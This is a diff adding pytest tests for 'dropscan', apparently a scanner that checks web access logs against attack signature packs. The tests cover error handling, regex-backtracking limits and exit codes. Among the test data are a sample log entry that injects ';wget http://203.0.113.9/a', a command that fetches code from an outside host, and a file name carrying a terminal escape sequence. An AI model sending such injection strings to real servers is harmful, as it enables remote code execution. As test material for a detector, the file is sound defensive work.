@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import json
 import re
+import subprocess
+import sys
+import time
+from pathlib import Path
 
 import pytest
 
-from conftest import combined_line
+from conftest import GOOD_PACK, SAMPLE_LOGS, combined_line
 from dropscan.engine import default_signatures
 from dropscan.errors import UsageError
 from dropscan.logformat import compile_format
@@ -62,17 +67,7 @@ def _pack(tmp_path, text, name="p.yaml"):
     return tmp_path
 
 
-GOOD = """
-- id: my.rule
-  name: mine
-  category: rce
-  severity: high
-  egress: false
-  keywords: [";foo"]
-  patterns: [';foo\\b']
-  references: [local]
-  examples: {match: ["/x?a=;foo"], no_match: ["/x?a=foo"]}
-"""
+GOOD = GOOD_PACK
 
 
 def test_user_pack_loads(tmp_path):
@@ -176,3 +171,98 @@ def test_issue_breadth_and_severity_order(full_scanner, target, category, severi
     assert (finding.category, finding.severity) == (category, severity), finding.rule_ids
     got = {f"{d.host}:{d.port}" for d in finding.egress}
     assert (dest in got) if dest else not got
+
+
+# --- packs from elsewhere, through the console entry (so exit codes are the real ones) -------
+def dropscan(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
+    exe = Path(sys.executable).with_name("dropscan")
+    cmd = [str(exe)] if exe.exists() else [sys.executable, "-c", "from dropscan.cli import main; main()"]
+    return subprocess.run([*cmd, *args], input=stdin, capture_output=True, timeout=120)
+
+
+def one_error_line(p: subprocess.CompletedProcess) -> str:
+    err = p.stderr.decode()
+    assert p.returncode == 2 and "Traceback" not in err, err
+    (line,) = err.splitlines()
+    assert line.startswith("dropscan: error: ")
+    return line.removeprefix("dropscan: error: ")
+
+
+BAD_PACKS = [
+    (lambda t: t + "\n: [", "p.yaml: line 12 is not valid YAML"),
+    (lambda t: t.replace("  references: [local]\n", ""), "p.yaml: signature 'my.rule': missing references"),
+    (lambda t: t + "  colour: red\n", "p.yaml: signature 'my.rule': unknown key(s) colour"),
+    (lambda t: t.replace("category: rce", "category: nope"), "p.yaml: signature 'my.rule': category must be one of"),
+    (lambda t: t.replace("';foo\\b'", "'(?:\\w+\\s)+;foo'"), "refused: nested unbounded quantifier"),
+    (lambda t: t.replace("';foo\\b'", "'(unclosed'"), "does not compile"),
+    (lambda t: "just a string\n", "p.yaml: expected a list of signatures"),
+    (lambda t: t.replace('[";foo"]', '["Foo"]'), "keyword 'Foo' must be lower-case"),
+]
+
+
+@pytest.mark.parametrize(("mutate", "message"), BAD_PACKS)
+def test_a_bad_pack_is_one_line_naming_the_file_and_exit_2(tmp_path, mutate, message):
+    pack = _pack(tmp_path, mutate(GOOD))
+    line = one_error_line(dropscan("scan", "--signatures", str(pack), str(SAMPLE_LOGS)))
+    assert line.startswith(str(pack / "p.yaml")) and message in line
+
+
+def test_every_command_that_takes_a_pack_refuses_a_bad_one(tmp_path):
+    pack = _pack(tmp_path, GOOD.replace("';foo\\b'", "'(a+)+$'"))
+    want = f"{pack / 'p.yaml'}: signature 'my.rule': pattern '(a+)+$' refused: nested unbounded quantifier"
+    for args in (
+        ["scan", "--signatures", str(pack), str(SAMPLE_LOGS)],
+        ["explain", "--signatures", str(pack), "GET /x?a=;foo"],
+        ["signatures", "test", str(pack)],
+        ["signatures", "list", str(pack)],
+    ):
+        assert one_error_line(dropscan(*args)).startswith(want), args
+
+
+def test_missing_empty_and_unreadable_packs(tmp_path):
+    assert one_error_line(dropscan("scan", "-s", str(tmp_path / "nope"), "-")) == (
+        f"{tmp_path / 'nope'}: no such signature file or directory"
+    )
+    (tmp_path / "empty").mkdir()
+    assert one_error_line(dropscan("scan", "-s", str(tmp_path / "empty"), "-")) == (
+        f"{tmp_path / 'empty'}: no *.yaml signature files"
+    )
+    (tmp_path / "latin1").mkdir()
+    (tmp_path / "latin1" / "p.yaml").write_bytes(GOOD.replace("mine", "m\xefne").encode("latin-1"))
+    line = one_error_line(dropscan("scan", "-s", str(tmp_path / "latin1"), "-"))
+    assert line.startswith(f"{tmp_path / 'latin1' / 'p.yaml'}: cannot read signature file: ")
+
+
+def test_a_pack_file_name_is_escaped_in_the_error(tmp_path):
+    (tmp_path / "evil\x1b[2J.yaml").write_text(GOOD + "\n: [")
+    line = one_error_line(dropscan("signatures", "list", str(tmp_path)))
+    assert "\x1b" not in line and "evil\\x1b[2J.yaml" in line
+
+
+def test_a_good_foreign_pack_drives_scan_explain_and_test(tmp_path):
+    pack = _pack(tmp_path, GOOD)
+    log = tmp_path / "access.log"
+    log.write_bytes(combined_line("/x?a=;foo") + combined_line("/x?c=;wget http://203.0.113.9/a"))
+    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1")
+    assert p.returncode == 1 and [json.loads(x)["rule_ids"] for x in p.stdout.splitlines()] == [["my.rule"]]
+    p = dropscan("explain", "-s", str(pack), combined_line("/x?a=;foo").decode().strip())
+    assert p.returncode == 1 and b"MATCH my.rule (high) on view url" in p.stdout
+    p = dropscan("signatures", "test", str(pack))
+    assert p.returncode == 0 and b"1 signatures, 2 examples, 0 example failure(s), 0 lint failure(s)" in p.stdout
+
+
+def test_a_pattern_that_passes_the_static_lint_but_backtracks(tmp_path):
+    # (a|aa)* has no nested quantifier, yet backtracks exponentially: loading accepts it,
+    # scanning stays bounded (every call times out, counted), `signatures test` fails it
+    slow = GOOD.replace("';foo\\b'", "';foo(?:a|aa)*b'").replace('"/x?a=;foo"]', '"/x?a=;fooab"]')
+    pack = _pack(tmp_path, slow)
+    log = tmp_path / "access.log"
+    log.write_bytes(combined_line("/x?a=;foo" + "a" * 60) * 3 + combined_line("/x?a=;fooab"))
+    summary = tmp_path / "s.json"
+    t0 = time.perf_counter()
+    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1", "--summary", str(summary))
+    assert time.perf_counter() - t0 < 30
+    assert p.returncode == 1 and [json.loads(x)["line_no"] for x in p.stdout.splitlines()] == [4]
+    assert json.loads(summary.read_text())["totals"]["regex_timeouts"] == 3
+    p = dropscan("signatures", "test", str(pack), "--timeout", "0.2")
+    assert p.returncode == 1 and b"FAIL lint my.rule: pattern" in p.stdout
